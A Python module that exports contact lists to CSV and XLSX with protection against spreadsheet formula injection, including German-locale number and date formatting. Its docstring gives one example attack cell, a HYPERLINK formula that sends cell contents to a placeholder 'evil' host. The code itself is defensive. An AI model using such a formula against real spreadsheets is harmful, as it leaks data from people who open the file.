"""CSV and XLSX export of contact lists, safe against formula injection.

A contact's name or note is typed by anyone who fills in a form or sends a list to import;
opened in Excel, a cell like ``=HYPERLINK("http://evil/?"&A1)`` would run. Every exported
string that a spreadsheet could read as a formula is therefore prefixed with an apostrophe
(OWASP "CSV Injection"), and XLSX cells are additionally written as plain text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import IO, Any
from zoneinfo import ZoneInfo

__all__ = ["iter_csv", "neutralize_cell", "write_csv", "write_xlsx"]

BERLIN = ZoneInfo("Europe/Berlin")
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_BOM = "\ufeff"
_ROWS_PER_CHUNK = 500


def neutralize_cell(value: Any) -> Any:
    """Prefix a string that a spreadsheet could run as a formula with "'"; others unchanged."""
    if not isinstance(value, str) or not value:
        return value
    # Excel and LibreOffice skip leading blanks before "=" in some import paths, so " =1+1"
    # and "\n@SUM(…)" are treated as dangerous too (conservative reading of OWASP).
    stripped = value.lstrip(" \t\r\n\u00a0")
    if value.startswith(_FORMULA_STARTS) or stripped.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def _local(value: dt.datetime) -> dt.datetime:
    """Return a naive Berlin time; spreadsheets know no time zones."""
    if value.tzinfo is not None:
        value = value.astimezone(BERLIN).replace(tzinfo=None)
    return value


def _csv_text(value: Any) -> str:
    """Render a value as German Excel would show it, so Excel reads it back the same way."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "ja" if value else "nein"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float | Decimal):
        # German Excel takes "3.5" for a date (3 May); "3,5" is the number.
        whole = not (isinstance(value, float) and not math.isfinite(value)) and (
            not isinstance(value, Decimal) or value.is_finite()
        )
        text = str(int(value)) if whole and value == int(value) else str(value)
        return text.replace(".", ",")
    if isinstance(value, dt.datetime):
        value = _local(value)
        if value.time() == dt.time(0, 0):
            return value.strftime("%d.%m.%Y")
        return value.strftime("%d.%m.%Y %H:%M")
    if isinstance(value, dt.date):
        return value.strftime("%d.%m.%Y")
    return str(value)


def iter_csv(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """Yield a ";"-separated, UTF-8-with-BOM, CRLF CSV in chunks for a streaming response."""
    buffer = io.StringIO()
    # The BOM makes Excel read UTF-8 instead of guessing Windows-1252 and garbling umlauts.
    buffer.write(_BOM)
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([_csv_text(neutralize_cell(h)) for h in headers])
    for count, row in enumerate(rows, start=1):
        writer.writerow([_csv_text(neutralize_cell(value)) for value in row])
        if count % _ROWS_PER_CHUNK == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    rest = buffer.getvalue()
    if rest:
        yield rest.encode("utf-8")


def write_csv(
    headers: Sequence[str], rows: Iterable[Sequence[Any]], out: IO[bytes] | None = None
) -> bytes:
    """Return the whole CSV document as bytes, also writing it to `out` when given."""
    chunks = []
    for chunk in iter_csv(headers, rows):
        if out is not None:
            out.write(chunk)
        chunks.append(chunk)
    return b"".join(chunks)


def write_xlsx(
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    out: IO[bytes],
    *,
    sheet_title: str = "Export",
) -> None:
    """Write an XLSX workbook with a bold header row; no cell can ever become a formula."""
    # Imported here: openpyxl takes a noticeable moment to import and most requests need none.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31])
    for index, header in enumerate(headers, start=1):
        # Column widths must be set before the first row in write-only mode.
        sheet.column_dimensions[get_column_letter(index)].width = max(12, min(40, len(header) + 4))
    bold = Font(bold=True)

    def text_cell(text: str, *, font: Font | None = None) -> WriteOnlyCell:
        # Control characters (vertical tab from Excel-for-Mac line breaks, for instance) are
        # not allowed in XLSX and would make openpyxl refuse the whole export.
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", neutralize_cell(text)))
        # Forced text type: openpyxl would otherwise store any value starting with "=" as a
        # formula, whatever the neutralisation above does.
        cell.data_type = "s"
        if font is not None:
            cell.font = font
        return cell

    def value_cell(value: Any) -> Any:
        if isinstance(value, str):
            return text_cell(value)
        if value is None or isinstance(value, bool | int | float | Decimal):
            return value
        if isinstance(value, dt.datetime):
            cell = WriteOnlyCell(sheet, value=_local(value))
            cell.number_format = "DD.MM.YYYY HH:MM"
            return cell
        if isinstance(value, dt.date):
            cell = WriteOnlyCell(sheet, value=value)
            cell.number_format = "DD.MM.YYYY"
            return cell
        return text_cell(str(value))

    sheet.append([text_cell(str(header), font=bold) for header in headers])
    for row in rows:
        sheet.append([value_cell(value) for value in row])
    workbook.save(out)
